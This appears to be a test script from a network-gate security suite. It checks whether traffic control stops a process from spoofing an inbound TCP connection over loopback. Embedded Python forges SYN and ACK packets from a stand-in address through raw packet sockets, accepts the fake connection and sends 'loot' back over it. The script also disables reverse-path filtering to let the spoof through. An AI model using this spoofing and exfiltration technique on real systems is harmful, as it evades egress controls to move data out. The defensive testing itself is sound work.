#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: plays the other side of an inbound connection, by packet sockets on lo, and sends by the accepted socket to whom it pretended to be
# stopped-by: tc
# reason: port
# kernels: all
#
# To the cgroup's programs the connection is one that others opened. That nobody did shows at the interface.
. "$(dirname "$0")/../interfaces/lib.sh"
container udp/9000
inside_netns "$CLIENT" sysctl -qw net.ipv4.conf.{all,default,lo}.rp_filter=0
# Evil does not reset a connection of which it knows nothing.
ip -n "$SERVER" route del local 203.0.113.0/24 dev lo

attack_by <<'PYTHON'
from attacker import *

SOL_PACKET = 263
lo = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
lo.bind(("lo", 0))
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
tap.settimeout(1)
listener = socket.create_server(("0.0.0.0", 8080))
listener.settimeout(1)
ready()

def inject(flags, sequence, acknowledged, data=b""):
    header = struct.pack("!HHIIBBHHH", 4711, 8080, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
    total = checksum(pseudo(EVIL4, OWN4, 6, len(header) + len(data)) + header + data)
    segment = header[:16] + struct.pack("!H", total) + header[18:] + data
    lo.send(bytes(12) + b"\x08\x00" + ip4(OWN4, 6, segment, source=EVIL4))

def synack():
    while True:
        packet = tap.recv(65536)
        if packet[0] >> 4 == 4 and packet[9] == 6 and packet[16:20] == socket.inet_aton(EVIL4) \
                and packet[33] == 0x12:
            return struct.unpack("!I", packet[24:28])[0]

with attempt("play"):
    inject(0x02, 1000, 0)
    theirs = synack()
    inject(0x10, 1001, theirs + 1)
    accepted, peer = listener.accept()
    print("accepted from", peer)
    accepted.send(loot("played"))
PYTHON
works_once_open stolen:played 'ip4 6 192.0.2.2 EVIL4 4711'
stopped_once_open gate
recorded tc port

# A limit, recorded so that nobody takes it for shut: a gate on the cgroup alone does not see who plays. Who
# has such a socket could put the frame on eth0 as well.
kvgate detach --all >/dev/null
next_run
launch_held
gate_on "$CG"
forget
release
passes stolen:played
